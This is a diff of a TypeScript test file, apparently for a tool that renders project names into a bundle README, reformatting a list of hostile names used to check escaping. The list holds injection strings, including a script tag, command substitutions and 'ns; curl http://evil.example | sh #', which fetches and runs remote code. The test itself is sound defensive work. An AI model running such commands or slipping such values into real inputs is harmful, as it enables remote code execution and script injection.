@@ -11,9 +11,33 @@ import { shellWord } from '../src/core/quote/shell';
 import { hostileString } from './support/hostile';
 
 const NAMES = [
-  '</h1><script>window.x=1</script>', '<b>bold</b>', '[link](http://evil.example)', '![img](http://evil.example/x.png)', '*em* _em_',
-  'a|b', 'c`d', '``', '` x `', ' lead', 'trail ', '\\|', '&amp;', '&#60;', '# heading', '- item', '> quote', '~~s~~', '$(id)', '`id`',
-  "it's", 'ns; curl http://evil.example | sh #', 'ünï', '😀', 'a\\', '*', '_',
+  '</h1><script>window.x=1</script>',
+  '<b>bold</b>',
+  '[link](http://evil.example)',
+  '![img](http://evil.example/x.png)',
+  '*em* _em_',
+  'a|b',
+  'c`d',
+  '``',
+  '` x `',
+  ' lead',
+  'trail ',
+  '\\|',
+  '&amp;',
+  '&#60;',
+  '# heading',
+  '- item',
+  '> quote',
+  '~~s~~',
+  '$(id)',
+  '`id`',
+  "it's",
+  'ns; curl http://evil.example | sh #',
+  'ünï',
+  '😀',
+  'a\\',
+  '*',
+  '_',
 ];
 const GENERATED = fc.sample(hostileString, { numRuns: 200, seed: 99 });
 
@@ -103,7 +127,9 @@ describe('the bundle README of a design forced past the lint', () => {
 
   it('has a heading with the name as text, and no HTML of a name anywhere', () => {
     expect(textOf(/<h1>([\s\S]*?)<\/h1>/.exec(html)![1])).toBe(`${t.name}: NATS on Kubernetes`);
-    expect(tagsOf(html).filter((tag) => !['h1', 'h2', 'p', 'code', 'pre', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'ul', 'li', 'h3', 'strong'].includes(tag))).toEqual([]);
+    expect(
+      tagsOf(html).filter((tag) => !['h1', 'h2', 'p', 'code', 'pre', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'ul', 'li', 'h3', 'strong'].includes(tag)),
+    ).toEqual([]);
   });
 
   it('lists each cluster file as it is written, in cells of their own', () => {
